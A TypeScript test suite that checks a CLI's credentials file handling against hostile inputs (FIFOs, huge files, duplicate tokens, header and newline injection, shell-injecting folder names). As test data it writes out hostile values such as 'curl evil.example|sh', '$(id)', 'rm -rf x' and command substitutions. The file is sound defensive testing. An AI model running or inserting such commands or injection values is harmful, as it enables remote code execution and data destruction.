/**
 * The credentials file and the token sources, attacked: something that is not a file at the path
 * (a FIFO, which an `open()` for reading would wait on forever), a file far too large to be ours
 * (a sparse 3 GiB one costs no disk), two values for one variable (a shell keeps the last, the
 * `dotenv` package the first: tools would disagree on which token is in use), and a token from the
 * flag or the environment that no `Authorization` header can carry (fetch would throw a TypeError).
 * Each must be a KeycardError naming the path or the source, never quoting the value.
 */
import { execFileSync } from 'node:child_process';
import { closeSync, constants, mkdirSync, mkdtempSync, openSync, promises as fs, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KeycardError } from '../core/errors.ts';
import { readCredentials, resolveToken, writeCredentials } from './index.ts';

const TOKEN = 'toado_sk_1abcdefghijklmnopqrstuvwxyzABCDEF000000';
let root: string;
beforeAll(() => {
  root = mkdtempSync(path.join(tmpdir(), 'kc-cli-hostile-'));
});
afterAll(async () => {
  await fs.rm(root, { recursive: true, force: true });
});
let n = 0;
function folder() {
  const dir = path.join(root, `case-${++n}`);
  mkdirSync(dir, { mode: 0o700 });
  return { dir, file: path.join(dir, 'env'), o: { env: { TOADO_CONFIG_DIR: dir } } };
}
const failure = (p: Promise<unknown>) =>
  p.then(
    () => null,
    (e: unknown) => e as Error,
  );

describe('readCredentials: what sits at the path', () => {
  it('a FIFO is refused at once as not a regular file, never waited on', async () => {
    const { file, o } = folder();
    execFileSync('mkfifo', ['-m', '600', file]);
    let timer: NodeJS.Timeout | undefined;
    const hung = new Promise<'hung'>((resolve) => {
      timer = setTimeout(() => resolve('hung'), 5_000);
    });
    try {
      const outcome = await Promise.race([failure(readCredentials('toado', o)), hung]);
      expect(outcome).toBeInstanceOf(KeycardError);
      expect(outcome).toMatchObject({ code: 'invalid_config' });
      expect((outcome as KeycardError).message).toContain(file);
    } finally {
      clearTimeout(timer);
      // Release a reader still blocked in open(), so no thread of the pool stays stuck.
      closeSync(openSync(file, constants.O_RDWR | constants.O_NONBLOCK));
    }
  });

  it('a 3 GiB (sparse) file is refused by its size, unread: invalid_config naming the file', async () => {
    const { file, o } = folder();
    writeFileSync(file, `TOADO_API_TOKEN=${TOKEN}\n`, { mode: 0o600 });
    await fs.truncate(file, 3 * 1024 ** 3);
    const error = await failure(readCredentials('toado', o));
    expect(error).toBeInstanceOf(KeycardError);
    expect(error).toMatchObject({ code: 'invalid_config' });
    expect(error!.message).toContain(file);
  });

  it('a 1 MiB line is refused the same way; a file of ordinary size with long comments still reads', async () => {
    const { file, o } = folder();
    writeFileSync(file, `TOADO_API_TOKEN=${'A'.repeat(1024 * 1024)}\n`, { mode: 0o600 });
    await expect(readCredentials('toado', o)).rejects.toMatchObject({ code: 'invalid_config' });
    writeFileSync(file, `# ${'x'.repeat(8000)}\nTOADO_API_TOKEN=${TOKEN}\n`, { mode: 0o600 });
    expect(await readCredentials('toado', o)).toMatchObject({ token: TOKEN });
  });
});

describe('readCredentials: one value per variable', () => {
  it('two TOADO_API_TOKEN lines are invalid_config naming the variable and both lines, quoting neither', async () => {
    const { file, o } = folder();
    const other = TOKEN.replace('abc', 'xyz');
    writeFileSync(file, `TOADO_API_TOKEN=${TOKEN}\n# old one\nexport TOADO_API_TOKEN=${other}\n`, { mode: 0o600 });
    const error = await failure(readCredentials('toado', o));
    expect(error).toBeInstanceOf(KeycardError);
    expect(error).toMatchObject({ code: 'invalid_config' });
    expect(error!.message).toContain('TOADO_API_TOKEN');
    expect(error!.message).toContain('lines 1 and 3');
    expect(error!.message).toContain(file);
    expect(error!.message).not.toContain(TOKEN);
    expect(error!.message).not.toContain(other);
  });

  it('the same for the URL; other variables may repeat (they are not ours)', async () => {
    const { file, o } = folder();
    writeFileSync(file, `TOADO_API_TOKEN=${TOKEN}\nTOADO_API_URL=https://a\nTOADO_API_URL=https://b\n`, {
      mode: 0o600,
    });
    await expect(readCredentials('toado', o)).rejects.toMatchObject({ code: 'invalid_config' });
    writeFileSync(file, `TOADO_API_TOKEN=${TOKEN}\nOTHER=1\nOTHER=2\n`, { mode: 0o600 });
    expect(await readCredentials('toado', o)).toMatchObject({ token: TOKEN });
  });
});

describe('readCredentials: a token in the file must be one a header can carry', () => {
  it('TOADO_API_TOKEN=user:pass@host (dotenv-safe, not a b64token) is invalid_config naming the variable', async () => {
    const { file, o } = folder();
    writeFileSync(file, 'TOADO_API_TOKEN=user:secret@host\n', { mode: 0o600 });
    const error = await failure(resolveToken('toado', { ...o, env: { ...o.env } }));
    expect(error).toBeInstanceOf(KeycardError);
    expect(error).toMatchObject({ code: 'invalid_config' });
    expect(error!.message).toContain('TOADO_API_TOKEN');
    expect(error!.message).not.toContain('secret');
  });
});

describe('resolveToken: a token from the flag or the environment must fit a Bearer header', () => {
  const bad: [string, string][] = [
    ['a CRLF (a Windows file read into the variable)', `${TOKEN}\r\n`],
    ['a header injected after a newline', `${TOKEN}\nX-Evil: 1`],
    ['a character outside Latin-1', `${TOKEN}\u2603`],
    ['a NUL', `${TOKEN}\u0000`],
    ['a space inside', `${TOKEN} ${TOKEN}`],
  ];
  for (const [what, value] of bad) {
    it(`env with ${what}: invalid_argument naming TOADO_API_TOKEN, never a TypeError later`, async () => {
      // What the caller would do next: this throws a TypeError today, far from the cause.
      const error = await failure(resolveToken('toado', { env: { TOADO_API_TOKEN: value } }));
      expect(error).toBeInstanceOf(KeycardError);
      expect(error).toMatchObject({ code: 'invalid_argument' });
      expect(error!.message).toContain('TOADO_API_TOKEN');
      expect(error!.message).not.toContain(TOKEN);
    });
    it(`flag with ${what}: invalid_argument naming the flag`, async () => {
      const error = await failure(resolveToken('toado', { flag: value, env: {} }));
      expect(error).toBeInstanceOf(KeycardError);
      expect(error).toMatchObject({ code: 'invalid_argument' });
      expect(error!.message).toContain('--token');
      expect(error!.message).not.toContain(TOKEN);
    });
  }

  it('what passes goes into a real Headers unchanged (keycard tokens, and JWT-like b64tokens)', async () => {
    for (const token of [TOKEN, 'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln-_', 'abc+/=']) {
      const found = await resolveToken('toado', { env: { TOADO_API_TOKEN: token } });
      expect(found).toMatchObject({ token, source: 'env' });
      expect(new Headers({ authorization: `Bearer ${found!.token}` }).get('authorization')).toBe(`Bearer ${token}`);
    }
  });
});

describe('writeCredentials: the comment line cannot carry a second line', () => {
  const cases: [string, string][] = [
    ['a LF and a variable', 'https://toado.app\nTOADO_API_URL=https://evil.example'],
    ['a CR and a command a shell would run on `source`', 'https://toado.app\rcurl evil.example|sh'],
    ['a CRLF', 'https://toado.app\r\n$(id)'],
    ['a line separator', 'https://toado.app\u2028x'],
    ['an escape sequence', 'https://toado.app\u001b[2J'],
  ];
  for (const [what, revokeAt] of cases)
    it(`revokeAt with ${what}: invalid_argument naming revokeAt, nothing written`, async () => {
      const { dir, o } = folder();
      const error = await failure(writeCredentials('toado', { token: TOKEN }, { ...o, revokeAt }));
      expect(error).toBeInstanceOf(KeycardError);
      expect(error).toMatchObject({ code: 'invalid_argument', message: expect.stringContaining('revokeAt') });
      expect(await fs.readdir(dir)).toEqual([]);
    });

  it('a URL given only as url (no revokeAt) is said in the comment, as before', async () => {
    const { file, o } = folder();
    await writeCredentials('toado', { token: TOKEN, url: 'https://toado.app' }, o);
    expect(await fs.readFile(file, 'utf8')).toContain('# Revoke this token at https://toado.app,');
  });
});

describe('the chmod hint, pasted into a shell, changes that one file', () => {
  // $TOADO_CONFIG_DIR or $XDG_CONFIG_HOME may name any folder: a space, a newline, a quote, `;` or `$(…)`
  // in it must not turn the hint's command into another one (two commands, or one on other files).
  for (const [what, name] of [
    ['a space', 'my tokens'],
    ['a newline', 'a\nrm -rf x'],
    ['a semicolon', 'a;touch pwned'],
    ['a command substitution', 'a$(touch pwned)`touch pwned`'],
    ['a single quote', "it's"],
  ] as const)
    it(`a folder name with ${what}: the command after "Run:" is chmod 600 of the file, nothing else`, async () => {
      const dir = path.join(root, `hint-${++n}`, name);
      mkdirSync(dir, { recursive: true, mode: 0o700 });
      const file = path.join(dir, 'env');
      writeFileSync(file, `TOADO_API_TOKEN=${TOKEN}\n`, { mode: 0o644 });
      const error = await failure(readCredentials('toado', { path: file }));
      expect(error).toBeInstanceOf(KeycardError);
      const command = error!.message.slice(error!.message.indexOf('Run: ') + 5);
      // A real shell runs the command with chmod replaced by one that prints its arguments.
      const args = execFileSync('sh', ['-c', `chmod() { printf '%s\\0' "$@"; }\n${command}`], { cwd: root })
        .toString()
        .split('\0')
        .slice(0, -1);
      expect(args).toEqual(['600', file]);
    });
});
